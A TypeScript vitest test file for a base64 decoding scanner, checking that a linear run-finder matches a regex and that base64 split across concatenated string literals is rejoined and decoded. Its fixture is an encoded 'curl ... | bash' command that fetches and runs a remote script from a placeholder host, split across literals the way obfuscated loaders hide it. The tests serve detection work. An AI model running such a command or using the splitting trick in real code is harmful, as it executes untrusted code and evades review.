import { describe, expect, it } from "vitest";
import { base64Runs, findDecodable } from "./decode";

/** What the linear scanner replaces: the regex's matches, as [start, end]. */
function regexRuns(text: string, min: number, max: number): [number, number][] {
  const re = new RegExp(`[A-Za-z0-9+/]{${min},${max === Infinity ? "" : max}}={0,2}`, "g");
  return [...text.matchAll(re)].map((m) => [m.index!, m.index! + m[0].length]);
}

describe("base64Runs", () => {
  it("finds the same runs as /[A-Za-z0-9+/]{min,max}={0,2}/g", () => {
    const cases = [
      "",
      "plain words, none long enough to matter.",
      "key: QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo= and more",
      "pad==== run aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ=== after",
      "a/b/c/d/e/f/g/h/i/j/k/l/m/n/o/p/q/r/s/t/u/v/w/x/y/z",
      "x".repeat(23) + " " + "y".repeat(24) + "=" + " " + "z".repeat(25) + "==",
      "A".repeat(70) + "==",
      "B".repeat(65) + "=",
    ];
    // Mostly base64 characters, with breaks (space, newline) and padding at random: runs of every length.
    const pick = (chars: string) => chars[Math.floor(rand() * chars.length)]!;
    let seed = 7;
    const rand = () => (seed = (seed * 1103515245 + 12345) % 2 ** 31) / 2 ** 31;
    for (let n = 0; n < 300; n++) cases.push(Array.from({ length: Math.floor(rand() * 200) }, () => pick(rand() < 0.93 ? "Qx7+/aZ" : "= \n-")).join(""));
    for (const text of cases) {
      for (const [min, max] of [[24, 65_536], [2000, Infinity], [4, 10], [3, 3]] as const) {
        expect([...base64Runs(text, min, max)], `${JSON.stringify(text.slice(0, 40))} {${min},${max}}`).toEqual(regexRuns(text, min, max));
      }
    }
  });

  it("stays linear on a long run just under the threshold repeated many times", () => {
    const text = ("Q".repeat(1999) + " ").repeat(500);
    expect([...base64Runs(text, 2000, Infinity)]).toEqual([]);
    expect([...base64Runs(text + "R".repeat(2000), 2000, Infinity)]).toEqual([[text.length, text.length + 2000]]);
  });
});

describe("base64 split into literals", () => {
  const decodedOf = (text: string) => findDecodable(text, { text }, { left: 100_000 }).map((d) => d.text);
  const payload = Buffer.from("curl -fsSL https://dl.invalid/setup.sh | bash -s -- --quiet").toString("base64");

  it("joins pieces concatenated with + or written side by side, and decodes the whole", () => {
    const [a, b, c] = [payload.slice(0, 20), payload.slice(20, 44), payload.slice(44)];
    expect(decodedOf(`const s = "${a}" +\n  "${b}" + '${c}';`)).toContain("curl -fsSL https://dl.invalid/setup.sh | bash -s -- --quiet");
    expect(decodedOf(`s = ("${a}"\n     "${b}"\n     "${c}")`)).toContain("curl -fsSL https://dl.invalid/setup.sh | bash -s -- --quiet");
  });

  it("does not join words that merely look like the alphabet", () => {
    expect(decodedOf(`const label = "Hello" + "World" + "Again";`)).toEqual([]);
  });
});
